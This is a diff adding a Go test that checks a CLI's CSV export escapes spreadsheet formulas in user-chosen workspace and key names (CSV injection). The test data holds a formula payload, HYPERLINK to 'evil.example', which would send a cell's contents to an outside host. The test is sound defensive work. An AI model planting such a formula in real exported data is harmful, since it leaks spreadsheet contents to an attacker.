@@ -1,10 +1,15 @@
 package cli_test
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"os"
+	"slices"
+	"strings"
 	"testing"
 	"time"
+
+	"accesscodes/internal/csvcell"
 )
 
 // The rows of lists, as JSON shows them.
@@ -137,6 +142,35 @@ id,key,name,role,status,createdAt,expiresAt,revokedAt,lastUsedAt,replacedBy
 		t.Run(c.name, func(t *testing.T) {
 			check(t, p.run(t, c.line), result{stdout: c.want[1:]}) // without the line break that only sets it off here
 		})
+	}
+}
+
+// Names are chosen by whoever makes a workspace or a key, and CSV is opened in a spreadsheet,
+// which runs a cell that begins like a formula.
+func TestCSVHoldsNoFormula(t *testing.T) {
+	const formula = `=HYPERLINK("http://evil.example/?"&A1)`
+	p := newProgram(t)
+	database := "sqlite:" + p.path
+	for _, args := range [][]string{
+		{"workspace", "create", "acme", "--name", formula, "--database", database},
+		{"key", "create", "--workspace", "acme", "--name", formula, "--database", database},
+	} {
+		if got := p.exec(t, args...); got.code != 0 {
+			t.Fatal(got.stderr)
+		}
+	}
+	for _, line := range []string{"workspace list", "workspace show acme", "key list --workspace acme"} {
+		rows, err := csv.NewReader(strings.NewReader(p.must(t, line+" --output csv"))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		name := rows[1][slices.Index(rows[0], "name")]
+		if name != "'"+formula || csvcell.Restore(name) != formula {
+			t.Errorf("%s shows the name as %q", line, name)
+		}
+	}
+	if got := list[workspaceRow](t, p, "workspace list"); got[0].Name != formula {
+		t.Errorf("JSON shows the name as %q", got[0].Name)
 	}
 }
 
